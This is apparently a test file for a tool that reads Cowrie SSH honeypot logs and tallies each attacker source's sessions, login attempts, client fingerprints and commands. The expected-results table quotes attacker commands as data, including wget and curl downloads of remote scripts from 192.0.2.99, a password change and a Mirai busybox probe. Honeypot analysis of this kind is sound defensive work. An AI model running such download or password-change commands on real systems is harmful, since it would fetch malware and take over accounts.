/**
 * What a real Cowrie 3.1.4 sent through a real manager. The truth was counted from its lines without
 * this program. `fixtures/cowrie/recorded.json` has all of them, without the fields that are not read.
 *
 * @module
 */
import assert from "node:assert/strict";
import { shuffled } from "../support/shuffled.ts";
import { recordedLines, recordsOf, told } from "./session_rig.ts";

const HASSH = "hassh 4c94058d5e9e31659879f79fd5b46084";
const PARAMIKO = "version SSH-2.0-paramiko_5.1.0";
const UPLOAD = "b76f3637be9e0311cd4d41d3458bb92c16e613e30bc9c2134974baf0d1632b45";

/** Of each source: sessions, logged in, longest in milliseconds; then each thing and how often. */
const TRUTH = {
  "198.51.100.30": ["2 0 3164", `${HASSH} 2`, `${PARAMIKO} 2`],
  "198.51.100.31": ["4 0 1161", `${HASSH} 4`, `${PARAMIKO} 4`],
  "198.51.100.32": [
    ...["1 1 6587", `${HASSH} 1`, `${PARAMIKO} 1`],
    "command cat /proc/cpuinfo 1",
    "command echo *** | passwd 1",
    "command uname -a 1",
    "command wget http://192.0.2.99/x.sh 1",
  ],
  "198.51.100.33": [
    ...["1 1 654", `${HASSH} 1`, `${PARAMIKO} 1`],
    "command curl -O http://192.0.2.99/y.sh; ls 1",
  ],
  "198.51.100.34": ["2 0 301", `${HASSH} 2`, `${PARAMIKO} 2`],
  "198.51.100.35": ["1 1 18836", "command busybox MIRAI 1", "command exit 1"],
  "198.51.100.36": ["8 0 1163", `${HASSH} 8`, `${PARAMIKO} 8`],
  "198.51.100.37": ["1 1 568", `${HASSH} 1`, `${PARAMIKO} 1`, "tunnel 192.0.2.77:25 1"],
  "198.51.100.38": ["1 1 447", `${HASSH} 1`, `${PARAMIKO} 1`, `payload ${UPLOAD} 1`],
  "198.51.100.39": ["1 0 151", `${HASSH} 1`, `${PARAMIKO} 1`],
  "2001:db8::9": ["1 0 3161", `${HASSH} 1`, `${PARAMIKO} 1`],
};

/** Guesses and logins of each source. */
const ATTEMPTS = {
  "198.51.100.30": 6,
  "198.51.100.31": 4,
  "198.51.100.32": 3,
  "198.51.100.33": 1,
  "198.51.100.34": 0,
  "198.51.100.35": 4,
  "198.51.100.36": 8,
  "198.51.100.37": 1,
  "198.51.100.38": 1,
  "198.51.100.39": 0,
  "2001:db8::9": 3,
};

const ORDERS: Readonly<Record<string, readonly string[]>> = {
  "as recorded": recordedLines,
  "twice": [...recordedLines, ...recordedLines],
  ...Object.fromEntries(
    [1, 2, 3].map((seed) => [
      `shuffled, twice, seed ${seed}`,
      shuffled([...recordedLines, ...recordedLines], seed),
    ]),
  ),
};

for (const [order, lines] of Object.entries(ORDERS)) {
  Deno.test(`sessions of a recorded Cowrie give what its attackers did: ${order}`, async () => {
    for (const snapshots of [[], [70], [20, 60, 100]]) {
      const records = await recordsOf(lines, snapshots);
      assert.deepEqual(told(records), TRUTH);
      assert.deepEqual(
        Object.fromEntries([...records].map(([source, { attempts }]) => [source, attempts])),
        ATTEMPTS,
      );
    }
  });
}
